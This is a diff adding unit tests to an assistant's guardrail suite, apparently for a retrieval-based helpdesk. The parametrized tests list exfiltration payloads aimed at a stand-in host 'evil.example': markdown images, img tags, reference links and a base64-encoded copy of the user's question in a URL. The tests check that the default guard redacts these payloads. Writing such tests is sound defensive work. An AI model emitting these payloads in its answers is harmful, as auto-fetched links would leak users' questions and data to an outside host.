@@ -10,10 +10,12 @@ import pytest
 from aver.agents import Answer, SentenceReady
 from aver.core.errors import Blocked
 from aver.gateway.types import Message
-from aver.guard import Detecting, Finding, Guard, Rail
+from aver.guard import Detecting, Finding, Guard, Guardrails, Rail, guard_of
+from aver.guard.builtin import built_in
 from aver.guard.canary import PromptLeak
 from aver.guard.exfiltration import Exfiltration
 from aver.guard.personal import PersonalData
+from aver.testing import HashEmbedder
 from tests.unit.agents.conftest import House, Scripted, Verbatim
 
 QUESTION = "How many days of unused leave carry over to the next year?"
@@ -277,3 +279,70 @@ async def test_an_answer_that_carries_away_what_was_asked_or_found_is_held_back(
         await house.assistant(model, guard=watched).ask(house.bob, asked)
     harmless = say(f"{CARRY} [1] See https://other.example/about for it. [1]")
     await house.assistant(harmless, guard=watched).ask(house.bob, asked)
+
+
+STANDARD = guard_of(Guardrails(), "northwind", built_in(HashEmbedder))
+"""What holds though nothing is declared."""
+EVIL = "https://evil.example/"
+
+
+@pytest.mark.parametrize(
+    "written",
+    [
+        f"![x]({EVIL}?q=bob) is the badge.",
+        f"Here it is ![x]({EVIL}?q=bob).",
+        f'It stands <img src="{EVIL}?q=bob"> here.',
+        f"The badge is ![x][b] here.\n\n[b]: {EVIL}?q=bob",
+        f"The badge ![x. And more. And more]({EVIL}?q=bob) is here.",
+        f"The badge ![x. {'And more of the badge. ' * 60}]({EVIL}?q=bob) is here.",
+        f"The badge ![x][b] is here. {'And more of the badge. ' * 60}\n\n[b]: {EVIL}?q=bob",
+        f"See [the desk]({EVIL}howmanydaysofunusedleave) for it.",
+        f"See {EVIL}?d=SG93IG1hbnkgZGF5cyBvZiB1bnVzZWQgbGVhdmUgY2FycnkgdG8gdGhlIG5leHQ for it.",
+        f"Up to ten days ![x]({EVIL}?q=bob) of unused leave carry over to the next year. [1]",
+    ],
+)
+async def test_what_a_client_would_fetch_reaches_nobody_though_nothing_is_declared(house, say, written):
+    """In a sentence that is marked as not found, and in one that a source supports."""
+    assistant = house.assistant(say(f"{CARRY} [1] {written}"), guard=STANDARD)
+    seen = await events_of(assistant, house.bob, QUESTION)
+    streamed = " ".join(each.sentence.text for each in seen if isinstance(each, SentenceReady))
+    answer = seen[-1]
+    assert streamed.startswith(CARRY)
+    for shown in (streamed, answer.answer, json.dumps([each.text for each in answer.sentences])):
+        assert "](http" not in shown
+        assert "evil.example" not in shown
+    assert answer.notices
+    (checked,) = steps(house, "checked")
+    assert (checked.facts["place"], checked.facts["outcome"]) == ("output", "redact")
+    assert "evil.example" in json.dumps([step.body for step in steps(house, "generated")])
+
+
+async def test_links_of_the_documents_own_are_shown_as_they_stand(house, say):
+    own = (
+        "The travel desk is at https://intranet.example/desk?form=unused-leave-carries-over-2026 today."
+        " Its guide is [the guide](https://docs.example.com/guide#leave) for everybody."
+    )
+    (house.pages / "desk.txt").write_text(f"Travel desk\n\n{own}\n")
+    house.ingest()
+    for model in (say(" ".join(f"{each}. [1]" for each in own.rstrip(".").split(". "))), Verbatim()):
+        answer = await house.assistant(model, guard=STANDARD).ask(house.bob, "Where is the travel desk, and its guide?")
+        assert "https://intranet.example/desk?form=unused-leave-carries-over-2026" in answer.answer
+        assert not answer.notices
+        if model.mode == "generated":
+            assert "[the guide](https://docs.example.com/guide#leave)" in answer.answer
+        assert all("[remote_image]" not in each.quote for each in answer.citations)
+    assert steps(house, "checked") == []
+
+
+async def test_the_first_sentences_do_not_wait_where_nothing_is_declared(house, say):
+    plain = await events_of(house.assistant(say(f"{CARRY} [1] Leave must be used by March. [1]")), house.bob, QUESTION)
+    model = say(f"{CARRY} [1] Leave must be used by March. [1]")
+    guarded = await events_of(house.assistant(model, guard=STANDARD), house.bob, QUESTION)
+    assert [type(each) for each in plain] == [type(each) for each in guarded]
+    assert plain[-1].sentences == guarded[-1].sentences
+
+
+async def test_an_abstention_repeats_no_picture_of_the_question(house, say):
+    answer = await house.assistant(say("Nothing."), guard=STANDARD).ask(house.bob, f"Zebra ![x]({EVIL}?q=bob)")
+    assert answer.abstained
+    assert "evil.example" not in answer.answer
